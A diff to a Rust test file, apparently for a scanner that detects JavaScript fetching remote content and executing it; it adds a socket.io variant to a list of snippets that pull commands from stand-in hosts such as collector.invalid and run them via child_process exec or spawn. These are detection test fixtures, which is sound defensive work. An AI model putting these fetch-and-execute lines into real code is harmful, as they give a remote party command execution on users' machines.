@@ -24,6 +24,7 @@ fn what_was_fetched_is_followed_into_commands() {
         "const { exec } = require('child_process'); fetch('https://collector.invalid').then(r => r.text()).then(t => exec(t))",
         "const cp = require('child_process'); require('axios').get('https://collector.invalid').then(r => cp.execSync(r.data.cmd))",
         "require('dns').resolveTxt('a.invalid', (e, r) => require('child_process').exec(r.flat().join('')))",
+        "const io = require('socket.io-client')('https://collector.invalid'); io.on('run', c => require('child_process').exec(c))",
         "const { spawn } = require('child_process'); fetch('https://collector.invalid').then(r => r.json()).then(j => spawn('sh', ['-c', j.c]))",
         "const { exec } = require('child_process'); fetch('https://collector.invalid').then(r => r.text()).then(t => exec('cd /tmp && ' + t))",
     ] {
